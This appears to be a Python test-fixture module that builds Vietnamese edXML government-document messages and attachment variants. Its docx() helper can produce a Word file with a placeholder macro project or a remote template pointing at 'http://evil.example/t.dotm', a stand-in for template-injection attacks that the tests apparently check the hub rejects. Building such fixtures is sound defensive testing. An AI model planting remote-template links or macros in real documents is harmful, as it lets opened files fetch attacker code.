"""edXML messages for the tests, built from the two samples of the national platform's SDK in
``tests/data/edxml/`` (a document message from Văn phòng Chính phủ, a status message from UBND
tỉnh Nghệ An): the samples as published, and variants with another recipient, number,
business type, status code, attachments, or a hostile part."""

from __future__ import annotations

import base64
import io
import zipfile
from pathlib import Path

from lxml import etree

DATA = Path(__file__).resolve().parents[2] / "data" / "edxml"
NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"
DSIG = "http://www.w3.org/2000/09/xmldsig#"
SAMPLE_TO = "000.00.15.H51"  # the document sample's recipient
SAMPLE_FROM = "002.00.20.H13"
SAMPLE_KEY = "002.00.20.H13,2019/01/17,12234555512/PRO-TEST-CASE1"
STATUS_ANSWERS = "000.00.00.G22,2015/09/30,7816/VPCP-TTĐT"
PDF = b"%PDF-1.4\n% van ban lien thong\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


def sample(name: str) -> bytes:
    """A sample as published: ``edoc`` or ``status``."""
    return (DATA / f"{name}.edxml").read_bytes()


def _tree(raw: bytes) -> etree._Element:
    # The document sample uses prefixes it never declares (xlink, edXML outside the envelope):
    # declared here on the root so the test can edit it; the hub copes with the raw sample.
    raw = raw.replace(
        b'<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">',
        b'<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016" '
        b'xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink">',
    )
    return etree.fromstring(raw)


def _el(node: etree._Element, path: str) -> etree._Element:
    found = node.find(path.replace("e:", f"{{{NS}}}"))
    assert found is not None, path
    return found


def _header(root: etree._Element) -> etree._Element:
    return _el(root, "e:edXMLEnvelope/e:edXMLHeader/e:MessageHeader")


def _sub(parent: etree._Element, name: str, text: str | None = None) -> etree._Element:
    node = etree.SubElement(parent, f"{{{NS}}}{name}")
    node.text = text
    return node


def document(
    *,
    to: str = SAMPLE_TO,
    number: str = "12234555512",
    notation: str = "PRO-TEST-CASE1",
    subject: str | None = None,
    business: int | None = None,
    reason: str = "",
    replaces: list[str] | None = None,
    files: list[tuple[str, str, bytes]] | None = None,
    unsigned: bool = True,
) -> bytes:
    """The document sample with these changes; ``files`` (name, content type, bytes) replace
    its attachment (whose content is a placeholder of the SDK's test tool)."""
    root = _tree(sample("edoc"))
    header = _header(root)
    _el(header, "e:To/e:OrganId").text = to
    _el(header, "e:Code/e:CodeNumber").text = number
    _el(header, "e:Code/e:CodeNotation").text = notation
    if subject is not None:
        _el(header, "e:Subject").text = subject
    if business is not None:
        node = _sub(header, "Bussiness")
        _sub(node, "BussinessDocType", str(business))
        _sub(node, "BussinessDocReason", reason)
        if replaces:
            listed = _sub(node, "ReplacementInfoList")
            for key in replaces:
                _sub(_sub(listed, "ReplacementInfo"), "DocumentId", key)
    if unsigned:
        sig = root.find(f".//{{{DSIG}}}Signature")
        sig.getparent().remove(sig)
    if files is not None:
        encoded = _el(root, "e:AttachmentEncoded")
        for old in list(encoded):
            encoded.remove(old)
        for i, (name, ctype, data) in enumerate(files):
            att = _sub(encoded, "Attachment")
            _sub(att, "ContentId", f"cid:tep-{i}")
            _sub(att, "AttachmentName", name)
            _sub(att, "ContentType", ctype)
            _sub(att, "ContentTransferEncoded", base64.b64encode(data).decode())
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def status(code: str = "01", *, answers: str = STATUS_ANSWERS, sender: str | None = None) -> bytes:
    """The status sample with another status code, answered document or sender."""
    root = etree.fromstring(sample("status"))
    header = _header(root)
    _el(header, "e:StatusCode").text = code
    _el(header, "e:ResponseFor/e:DocumentId").text = answers
    if sender:
        _el(header, "e:From/e:OrganId").text = sender
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def docx(macros: bool = False, remote_template: bool = False) -> bytes:
    """A minimal Word (.docx) file; with a VBA project, or a remote template, when asked."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("word/document.xml", "<w:document/>")
        rels = '<?xml version="1.0"?><Relationships>'
        if remote_template:
            rels += (
                '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
                '2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
                'TargetMode="External"/>'
            )
        z.writestr("word/_rels/settings.xml.rels", rels + "</Relationships>")
        if macros:
            z.writestr("word/vbaProject.bin", b"\x00" * 64)
    return out.getvalue()


def xlsx() -> bytes:
    """A minimal Excel (.xlsx) file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def paths(raw: bytes) -> set[str]:
    """Every element's path of local names under the root of a message (its structure)."""
    root = _tree(raw)
    out: set[str] = set()

    def walk(node: etree._Element, prefix: str) -> None:
        for child in node:
            if not isinstance(child.tag, str):
                continue
            path = f"{prefix}/{etree.QName(child).localname}"
            out.add(path)
            walk(child, path)

    walk(root, "edXML")
    return out
